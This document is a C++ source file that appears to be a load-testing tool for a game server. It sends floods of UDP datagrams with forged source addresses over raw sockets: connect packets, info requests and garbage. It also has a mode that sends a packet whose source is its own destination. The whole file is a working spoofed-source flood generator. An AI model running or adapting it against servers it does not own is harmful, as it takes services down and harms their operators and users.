// Sends datagrams from forged addresses as fast as one core can: CONNECTs, info requests and garbage, mixed. Use it only in your own
// network: it needs CAP_NET_RAW, and other networks drop forged addresses.
//   crowd_flood ADDRESS PORT SECONDS SOURCES [mixed|connect|rhythm|info|loop [RATE [FIRST]]]
// mixed:   each datagram is a CONNECT, an info request or garbage, from any source
// connect: CONNECTs only
// rhythm:  only CONNECTs, each source every 500 ms, like a waiting client
// info:    info requests only
// loop:    one info request whose source is its own destination
// Sources are FIRST (10.64.0.0) and up, with two ports each. A single source has 60,000 ports; for CONNECTs, it has the 30,000 ports that
// no client gets, so that it does not disturb a player's connection. RATE: datagrams per second; without it, as many as possible. Prints
// the number of datagrams sent.
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string_view>
#include <thread>

#include <arpa/inet.h>
#include <fmt/format.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 64;
constexpr std::uint32_t kFirstSource = 0x0a400000; // 10.64.0.0
constexpr std::size_t kHeaders = sizeof(iphdr) + sizeof(udphdr);
constexpr std::size_t kLongest = 64;
constexpr std::string_view kConnect{"\x10\x00\x00\x01TKEN\xff\xff\xff\xff", 12};
constexpr std::string_view kInfo{"xe\x12\x34\0\0\xff\xff\xff\xffgie3\x05", 15};

struct Packet {
    std::array<char, kHeaders + kLongest> bytes{};
    std::size_t size = 0;

    void fill(std::uint32_t source, std::uint16_t port, const sockaddr_in& to,
              std::string_view payload) {
        size = kHeaders + payload.size();
        iphdr ip{};
        ip.version = 4;
        ip.ihl = 5;
        ip.ttl = 64;
        ip.protocol = IPPROTO_UDP;
        ip.tot_len = htons(static_cast<std::uint16_t>(size));
        ip.saddr = htonl(source);
        ip.daddr = to.sin_addr.s_addr;
        udphdr udp{};
        udp.source = htons(port);
        udp.dest = to.sin_port;
        udp.len = htons(static_cast<std::uint16_t>(sizeof udp + payload.size()));
        std::memcpy(bytes.data(), &ip, sizeof ip);
        std::memcpy(bytes.data() + sizeof ip, &udp, sizeof udp);
        std::memcpy(bytes.data() + kHeaders, payload.data(), payload.size());
    }
};

class Flood {
  public:
    Flood(const sockaddr_in& to, std::uint32_t sources, std::string_view kind, std::uint64_t rate,
          std::uint32_t first)
        : to_{to}, sources_{sources}, kind_{kind}, rate_{kind == "rhythm" ? sources * 2 : rate},
          first_{first}, socket_{::socket(AF_INET, SOCK_RAW, IPPROTO_RAW)} {
        for (std::size_t i = 0; i < kBatch; ++i) {
            messages_[i].msg_hdr.msg_name = &to_;
            messages_[i].msg_hdr.msg_namelen = sizeof to_;
            messages_[i].msg_hdr.msg_iov = &vectors_[i];
            messages_[i].msg_hdr.msg_iovlen = 1;
        }
    }

    [[nodiscard]] bool ready() const { return socket_ >= 0; }

    std::uint64_t run(Clock::duration time) {
        std::uint64_t sent = 0;
        const auto begin = Clock::now();
        for (auto now = begin; now - begin < time; now = Clock::now()) {
            std::uint64_t count = kBatch;
            if (rate_ != 0) {
                const auto due =
                    static_cast<std::uint64_t>(std::chrono::duration<double>(now - begin).count() *
                                               static_cast<double>(rate_));
                count = std::min<std::uint64_t>(due - sent, kBatch);
                if (count < std::min<std::uint64_t>(rate_ / 200 + 1, kBatch)) {
                    std::this_thread::sleep_for(std::chrono::microseconds{50});
                    continue;
                }
            }
            for (std::size_t i = 0; i < count; ++i) {
                make(packets_[i]);
                vectors_[i] = {packets_[i].bytes.data(), packets_[i].size};
            }
            const int passed =
                ::sendmmsg(socket_, messages_.data(), static_cast<unsigned>(count), 0);
            sent += passed > 0 ? static_cast<std::uint64_t>(passed) : 0;
        }
        return sent;
    }

    /// Sends one info request whose source is the receiver.
    void send_one() {
        packets_[0].fill(ntohl(to_.sin_addr.s_addr), ntohs(to_.sin_port), to_, kInfo);
        vectors_[0] = {packets_[0].bytes.data(), packets_[0].size};
        ::sendmmsg(socket_, messages_.data(), 1, 0);
    }

  private:
    void make(Packet& packet) {
        const std::uint32_t number = kind_ == "rhythm" ? next_++ % sources_ : draw() % sources_;
        const std::uint32_t what = kind_ == "mixed" ? draw() % 3 : kind_ == "info" ? 1 : 0;
        const std::uint32_t num_ports = what == 1 ? 60'000 : 30'000;
        const auto port = static_cast<std::uint16_t>(
            sources_ > 1 ? 20'000 + (number & 1U) : 2000 + next_++ * 7919 % num_ports);
        std::array<char, 40> garbage{};
        for (char& each : garbage) {
            each = static_cast<char>(draw());
        }
        packet.fill(first_ + number / 2, port, to_,
                    what == 0   ? kConnect
                    : what == 1 ? kInfo
                                : std::string_view{garbage.data(), garbage.size()});
    }

    std::uint32_t draw() { return static_cast<std::uint32_t>(random_()); }

    sockaddr_in to_;
    std::uint32_t sources_;
    std::string_view kind_;
    std::uint64_t rate_;  ///< 0: as many as it can
    std::uint32_t first_; ///< source
    int socket_;
    std::uint32_t next_ = 0;
    std::minstd_rand random_;
    std::array<Packet, kBatch> packets_;
    std::array<iovec, kBatch> vectors_{};
    std::array<mmsghdr, kBatch> messages_{};
};

} // namespace

int main(int argc, char** argv) {
    if (argc < 5) {
        fmt::print(stderr, "crowd_flood ADDRESS PORT SECONDS SOURCES "
                           "[mixed|connect|rhythm|info|loop [RATE [FIRST]]]\n");
        return 2;
    }
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<std::uint16_t>(std::atoi(argv[2])));
    ::inet_pton(AF_INET, argv[1], &to.sin_addr);
    const std::string_view kind = argc > 5 ? argv[5] : "mixed";
    in_addr first{.s_addr = htonl(kFirstSource)};
    if (argc > 7) {
        ::inet_pton(AF_INET, argv[7], &first);
    }
    Flood flood{to, static_cast<std::uint32_t>(std::atoi(argv[4])), kind,
                argc > 6 ? std::strtoull(argv[6], nullptr, 10) : 0, ntohl(first.s_addr)};
    if (!flood.ready()) {
        fmt::print(stderr, "crowd_flood: it needs CAP_NET_RAW\n");
        return 1;
    }
    if (kind == "loop") {
        flood.send_one();
        return 0;
    }
    const double seconds = std::atof(argv[3]);
    const auto sent = flood.run(
        std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>{seconds}));
    fmt::print("{} datagrams, {:.0f} a second\n", sent, static_cast<double>(sent) / seconds);
    return 0;
}
